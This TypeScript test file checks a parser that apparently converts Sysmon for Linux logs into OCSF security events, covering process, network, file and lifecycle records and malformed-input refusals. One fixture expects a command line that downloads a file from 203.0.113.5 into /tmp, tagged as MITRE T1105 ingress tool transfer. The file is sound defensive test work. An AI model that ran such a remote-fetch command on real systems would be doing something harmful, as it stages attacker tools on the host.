import assert from 'node:assert/strict'
import { test } from 'node:test'
import { CLASS } from '../../ocsf/event.js'
import { corpusOf, corpusReport } from '../../test/corpus.js'
import { eventOf, fixtureCase, refusalOf } from '../../test/format-cases.js'
import { sysmonLinux } from './sysmon_linux.js'

const convert = (name: string) => eventOf(sysmonLinux, fixtureCase('sysmon_linux/events.jsonl', name))
const TIME = Date.UTC(2026, 0, 12, 8, 30, 0, 472)

test('a process in a syslog line', () => {
  const event = convert('process')
  assert.deepEqual([event.class_uid, event.activity_name], [CLASS.process_activity, 'Launch'])
  assert.equal(event.time, TIME)
  assert.equal(event.severity_id, 1)
  assert.equal(event.process.pid, 812)
  assert.equal(event.process.uid, '94325212-f5aa-627b-082b-60e4b9550000')
  assert.equal(event.process.cmd_line, 'curl -o /tmp/x <http://203.0.113.5/a>')
  assert.equal(event.process.file.path, '/usr/bin/curl')
  assert.deepEqual(event.process.file.hashes, [{ algorithm_id: 3, value: 'ab'.repeat(32) }])
  assert.deepEqual(event.process.user, { name: 'ana' })
  assert.deepEqual([event.actor.process.pid, event.actor.process.cmd_line], [700, '-bash'])
  assert.deepEqual(event.attacks, [{ technique: { uid: 'T1105' } }])
  assert.equal(event.workload?.uid, 'vm/web-1')
})

test('connections, ends, files', () => {
  const connection = convert('connection')
  assert.deepEqual([connection.class_uid, connection.activity_name], [CLASS.network_activity, 'Open'])
  assert.deepEqual(connection.src_endpoint, { ip: '10.0.1.5', port: 51492 })
  assert.deepEqual(connection.dst_endpoint, { ip: '203.0.113.5', port: 443 })
  assert.equal(connection.connection_info.direction_id, 2)
  assert.equal(convert('end').activity_name, 'Terminate')
  const created = convert('file created')
  assert.deepEqual([created.class_uid, created.activity_name], [CLASS.file_activity, 'Create'])
  assert.equal(created.file.path, '/tmp/x')
  assert.equal(created.file.created_time, TIME - 72)
  const deleted = convert('file deleted')
  assert.deepEqual([deleted.activity_name, deleted.file.is_deleted], ['Delete', true])
  const raw = convert('raw read')
  assert.deepEqual([raw.activity_name, raw.file.type_id], ['Read', 4])
})

test('Sysmon about itself', () => {
  const stopped = convert('state')
  assert.deepEqual([stopped.class_uid, stopped.activity_name], [CLASS.application_lifecycle, 'Stop'])
  assert.equal(stopped.app.version, '1.3.1')
  assert.equal(convert('configuration').activity_name, 'Configuration change')
})

test('refused with a reason', () => {
  assert.match(refusalOf(sysmonLinux, '<Event><System></System></Event>'), /^not_sysmon/)
  assert.match(refusalOf(sysmonLinux, '{"a":1}'), /^not_sysmon/)
  const text = fixtureCase('sysmon_linux/events.jsonl', 'end') as unknown as string
  const broken = text.replace('2026-01-12 08:30:00.472', 'x').replace('2026-01-12T08:30:00.500000000Z', 'yesterday')
  assert.match(refusalOf(sysmonLinux, broken), /^bad_time/)
})

const shared = corpusOf('sysmon_linux', ['parser-corpus/otrf_json_mixed.jsonl'])
test('all events of the corpus become valid OCSF', { skip: shared ? false : '../shared/data is absent' }, () => {
  const report = corpusReport(sysmonLinux, shared ?? [])
  assert.ok(report.events > 40)
  assert.deepEqual([report.rejected, report.dropped, report.problems], [{}, {}, {}])
})
